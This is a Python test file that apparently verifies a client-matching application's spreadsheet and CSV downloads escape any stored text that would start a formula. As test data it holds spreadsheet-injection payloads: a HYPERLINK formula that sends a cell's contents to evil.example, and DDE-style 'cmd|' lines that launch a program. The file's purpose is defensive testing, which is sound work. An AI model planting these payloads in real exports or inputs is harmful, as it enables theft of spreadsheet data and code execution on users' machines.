"""Issue 14, item 3: no download turns stored text into a live formula.

A client named ``=HYPERLINK("http://evil.example/?"&B3,"Hồ sơ")`` (imported over HTTP like any
other), and a provider and an option whose names start a formula, are put in a cohort plan;
every download route of the application is fetched and every cell of every sheet checked.
The download routes are enumerated from the application itself, so a new download that is
not listed here (and so not checked) fails the first test.
"""

from __future__ import annotations

import csv
import inspect
import io
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date

import httpx
from openpyxl import load_workbook
from sqlalchemy import select, update

from matcher.safe_cells import TRIGGERS, csv_row, text_cell
from matcher.store.db import transaction
from matcher.store.tables import Client, Option, Placement, Plan, Provider
from matcher.vocab.text import fold
from tests import local_http
from tests.web.signin import login_form

STAFF = "canbo.chuongtrinh"
HA_LONG = "cur-6652"
FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"Hồ sơ")'
# Formulas hidden behind the other triggers; the import strips tabs, so those go in directly.
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]

# Every download of the product: path template -> what the test needs to fetch it.
DOWNLOADS = {"/cohort/{plan_id}/plan.xlsx": "plan",
             "/v1/reports/department.xlsx?year={year}&quarter={quarter}": "department"}
MARKERS = ("Content-Disposition", "attachment", "Workbook", "csv.writer", "DictWriter",
           "to_csv", "to_excel", "StreamingResponse", "FileResponse")


def _routes(routes, prefix: str = ""):
    """(path, route) of every route, inside included routers too."""
    for route in routes:
        if hasattr(route, "original_router"):  # FastAPI's included router
            inner = prefix + (getattr(route.include_context, "prefix", "") or "")
            yield from _routes(route.original_router.routes, inner)
        elif hasattr(route, "routes") and not hasattr(route, "endpoint"):  # a mount
            yield from _routes(route.routes, prefix + route.path)
        else:
            yield prefix + getattr(route, "path", ""), route


def _download_routes() -> set[str]:
    from api.main import create_app

    found = set()
    for path, route in _routes(create_app().routes):
        if "GET" not in (getattr(route, "methods", None) or ()):
            continue
        try:
            source = inspect.getsource(route.endpoint)
        except (OSError, TypeError):
            source = ""
        if path.endswith((".xlsx", ".xls", ".csv", ".tsv", ".ods")) or any(
                m in source for m in MARKERS):
            found.add(path)
    return found


def test_only_strings_that_start_a_formula_are_changed():
    assert text_cell(FORMULA) == "'" + FORMULA
    for hostile in OTHERS:
        assert text_cell(hostile) == "'" + hostile
    assert text_cell("Nguyễn Thị Hoa") == "Nguyễn Thị Hoa"
    assert text_cell("a-b = c") == "a-b = c"
    # Numbers stay numbers, a negative one too; a control character xlsx cannot hold goes.
    assert csv_row([-5, -0.5, 3, None, "x\x07y"]) == [-5, -0.5, 3, None, "xy"]


def test_every_download_route_is_checked_here():
    assert _download_routes() == {d.split("?")[0] for d in DOWNLOADS}, (
        "a download route is not covered by tests/security/test_downloads.py: add it to "
        "DOWNLOADS and write its cells with matcher.safe_cells")


@contextmanager
def _signed_in(server, username: str) -> Iterator[httpx.Client]:
    with local_http.Client(base_url=server.url, timeout=120, follow_redirects=False) as client:
        r = login_form(client, username)
        assert r.status_code == 303, r.text
        yield client


def _import_formula_client(api, client_id: str) -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["client_id", "full_name", "birth_date", "gender", "group", "place",
                     "interests", "max_travel_km"])
    writer.writerow([client_id, FORMULA, "1996-05-01", "female", "gbv_survivor", "Phường Hà Tu",
                     "học may; nấu ăn", "40"])
    with api.client(STAFF) as c:
        r = c.post("/v1/imports/clients",
                   files={"file": ("clients.csv", out.getvalue().encode(), "text/csv")})
    assert r.status_code == 201, r.text


def _add_other_clients(db, ids: list[str]) -> None:
    with transaction(db) as s:
        for cid, name in zip(ids, OTHERS, strict=True):
            s.add(Client(client_id=cid, full_name=name, full_name_folded=fold(name),
                         birth_date=date(1996, 5, 1), gender="female",
                         group_code="gbv_survivor", place_id=HA_LONG,
                         interests="học may; nấu ăn", max_travel_km=40))


@contextmanager
def _formula_names(db, option_ids: list[str]) -> Iterator[None]:
    """The plan's options and their providers renamed to formulas; put back afterwards."""
    with transaction(db) as s:
        options = {o.option_id: (o.title, o.provider_id) for o in s.scalars(
            select(Option).where(Option.option_id.in_(option_ids)))}
        providers = {p: s.get(Provider, p).name for _, p in options.values()}
        for k, oid in enumerate(options):
            s.execute(update(Option).where(Option.option_id == oid)
                      .values(title=OTHERS[k % 3]))
        for pid in providers:
            s.execute(update(Provider).where(Provider.provider_id == pid).values(name=FORMULA))
    try:
        yield
    finally:
        with transaction(db) as s:
            for oid, (title, _) in options.items():
                s.execute(update(Option).where(Option.option_id == oid).values(title=title))
            for pid, name in providers.items():
                s.execute(update(Provider).where(Provider.provider_id == pid).values(name=name))


def _cells(content: bytes, path: str) -> list[tuple[str, object, str]]:
    """(where, value, data type) of every cell of a downloaded file."""
    if path.endswith(".csv"):
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [(f"{r}:{c}", v, "s") for r, row in enumerate(rows) for c, v in enumerate(row)]
    book = load_workbook(io.BytesIO(content))
    return [(f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_download_writes_stored_text_as_a_formula(api, db):
    stamp = time.time_ns()
    first = f"XLSX{stamp}-0"
    others = [f"XLSX{stamp}-{k}" for k in range(1, len(OTHERS) + 1)]
    _import_formula_client(api, first)
    _add_other_clients(db, others)
    with api.client(STAFF) as c:
        r = c.post("/v1/plans", json={"client_ids": [first, *others]})
    assert r.status_code == 201, r.text
    plan_id = r.json()["plan_id"]
    with transaction(db) as s:
        used = sorted({a["option_id"] for a in s.get(Plan, plan_id).body["assignments"]})
    assert used, "the plan assigns nobody: the option and provider names go unchecked"
    with transaction(db) as s:  # a quarter in which a renamed provider has a placement
        started = s.scalar(select(Placement.start_date)
                           .where(Placement.option_id.in_(used)).limit(1))
    assert started, "no placement in the plan's options: the report's names go unchecked"
    fetch = {"plan": {"plan_id": plan_id},
             "department": {"year": started.year, "quarter": (started.month - 1) // 3 + 1}}
    # What each file must show of the hostile names: the plan lists clients and options;
    # the Department's report only providers (its groups and places are the product's words).
    shows = {"plan": ["'" + FORMULA, *("'" + o for o in OTHERS[:3])],
             "department": ["'" + FORMULA]}
    with _formula_names(db, used), _signed_in(api, STAFF) as client:
        for template, needs in DOWNLOADS.items():
            path = template.format(**fetch[needs])
            for lang in ("vi", "en"):
                client.cookies.set("lang", lang)
                r = client.get(path)
                assert r.status_code == 200, (path, r.status_code, r.text[:200])
                cells = _cells(r.content, path)
                texts = [v for _, v, _ in cells if isinstance(v, str)]
                # The hostile names are there, as text: the test did reach them.
                assert set(shows[needs]) <= set(texts), path
                for where, value, kind in cells:
                    assert kind != "f", (path, where, value)
                    assert not (isinstance(value, str) and value.startswith(TRIGGERS)), (
                        path, where, value)
                # Numbers stay numbers.
                assert any(isinstance(v, int | float) and not isinstance(v, bool)
                           for _, v, _ in cells), path
                if needs == "plan":  # its chances of success, as numbers
                    assert any(isinstance(v, float) and 0 <= v <= 1 for _, v, _ in cells)
